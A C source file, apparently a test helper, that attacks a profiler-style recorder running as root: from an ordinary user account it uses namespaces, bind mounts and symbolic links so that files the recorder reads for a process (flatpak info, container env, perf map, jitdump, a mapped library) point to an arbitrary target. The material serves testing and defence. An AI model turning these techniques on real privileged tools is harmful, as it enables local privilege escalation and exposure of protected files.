// SPDX-License-Identifier: GPL-3.0-or-later

/* Attacks a recorder that runs as root, as an ordinary user: `confused-deputy ENTRY ROOT
 * TARGET`. It makes one of the paths that the recorder reads for a process lead to TARGET, and
 * computes until it is killed.
 *
 *     link    ROOT/.flatpak-info is a symbolic link to TARGET
 *     facts   TARGET is mounted on ROOT/run/.containerenv
 *     map     TARGET is mounted on the perf map of this process
 *     dump    TARGET is mounted on the jitdump of this process
 *     device  ROOT is a library that this process has mapped, and then a symbolic link to TARGET
 *
 * All but the last run in user and mount namespaces, with ROOT as root directory. The jitdump
 * is mapped repeatedly, so that a recording that starts later sees its path, too.
 *
 * Prints its process ID when everything is set up; exits with 77 if namespaces cannot be
 * made. */

#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <unistd.h>

#define PAGE 65536

/* Jumps to itself. */
#if defined(__x86_64__)
static const uint8_t loop[] = { 0xeb, 0xfe };
#elif defined(__aarch64__)
static const uint32_t loop[] = { 0x14000000 };
#else
static const uint8_t loop[1];
#endif

static void
fail (const char *what)
{
  perror (what);
  exit (1);
}

static void
put (const char *path, const void *bytes, size_t size, mode_t mode)
{
  int fd = open (path, O_WRONLY | (mode != 0 ? O_CREAT : 0), mode);

  if (fd < 0 || write (fd, bytes, size) != (ssize_t) size || close (fd) != 0)
    fail (path);
}

static void
map_id (const char *path, unsigned id)
{
  char text[64];

  put (path, text, (size_t) snprintf (text, sizeof text, "0 %u 1", id), 0);
}

/* A file system of ours, with the machine's below /host. */
static void
enter_namespaces (const char *root)
{
  unsigned uid = getuid (), gid = getgid ();

  if (unshare (CLONE_NEWUSER | CLONE_NEWNS) != 0)
    exit (77);
  put ("/proc/self/setgroups", "deny", 4, 0);
  map_id ("/proc/self/uid_map", uid);
  map_id ("/proc/self/gid_map", gid);
  if (mount ("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
      mount ("none", root, "tmpfs", 0, NULL) != 0 || chdir (root) != 0 ||
      mkdir ("host", 0755) != 0 || mount ("/", "host", NULL, MS_BIND | MS_REC, NULL) != 0 ||
      mkdir ("run", 0755) != 0 || mkdir ("tmp", 0777) != 0)
    fail ("namespaces");
}

static void
mount_on (const char *target, const char *path)
{
  put (path, "", 0, 0644);
  if (mount (target, path, NULL, MS_BIND, NULL) != 0)
    fail (path);
}

static int dump_fd; /* of the file below the mount */

static void
map_dump (int number)
{
  void *mapped = mmap (NULL, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, dump_fd, 0);

  (void) number;
  if (mapped != MAP_FAILED)
    (void) munmap (mapped, PAGE);
}

static void *
map_code (const char *path)
{
  int flags = path != NULL ? MAP_PRIVATE : MAP_PRIVATE | MAP_ANONYMOUS;
  int fd = path != NULL ? open (path, O_RDONLY) : -1;
  void *code = mmap (NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, flags, fd, 0);

  if (code == MAP_FAILED)
    fail ("mmap");
  return code;
}

int
main (int argc, char **argv)
{
  const char *entry = argc == 4 ? argv[1] : "";
  const char *target = argc == 4 ? argv[3] : "";
  char path[4096];
  void *code = NULL;

  if (*entry == '\0')
    return 2;
  if (strcmp (entry, "device") == 0)
    {
      put (argv[2], loop, sizeof loop, 0755);
      if (truncate (argv[2], PAGE) != 0)
        fail (argv[2]);
      code = map_code (argv[2]);
      if (unlink (argv[2]) != 0 || symlink (target, argv[2]) != 0)
        fail (argv[2]);
    }
  else
    enter_namespaces (argv[2]);

  if (strcmp (entry, "link") == 0)
    {
      (void) snprintf (path, sizeof path, "/host%s", target);
      if (symlink (path, ".flatpak-info") != 0)
        fail (path);
    }
  else if (strcmp (entry, "facts") == 0)
    mount_on (target, "run/.containerenv");
  else if (strcmp (entry, "map") == 0)
    {
      (void) snprintf (path, sizeof path, "tmp/perf-%d.map", getpid ());
      mount_on (target, path);
    }
  else if (strcmp (entry, "dump") == 0)
    {
      (void) snprintf (path, sizeof path, "tmp/jit-%d.dump", getpid ());
      dump_fd = open (path, O_RDWR | O_CREAT, 0644);
      if (dump_fd < 0 || ftruncate (dump_fd, PAGE) != 0)
        fail (path);
    }

  if (strcmp (entry, "device") != 0 && (chroot (".") != 0 || chdir ("/") != 0))
    fail ("chroot");
  if (strcmp (entry, "dump") == 0)
    {
      const struct itimerval often = { { 0, 100000 }, { 0, 100000 } };
      char from[4096];

      (void) snprintf (from, sizeof from, "/host%s", target);
      if (mount (from, path, NULL, MS_BIND, NULL) != 0 ||
          signal (SIGALRM, map_dump) == SIG_ERR || setitimer (ITIMER_REAL, &often, NULL) != 0)
        fail (path);
    }
  if (code == NULL)
    {
      code = map_code (NULL);
      memcpy (code, loop, sizeof loop);
    }
  __builtin___clear_cache (code, (char *) code + sizeof loop);
  printf ("%d\n", getpid ());
  (void) fflush (stdout);
  ((void (*) (void)) (uintptr_t) code) ();
  return 0;
}
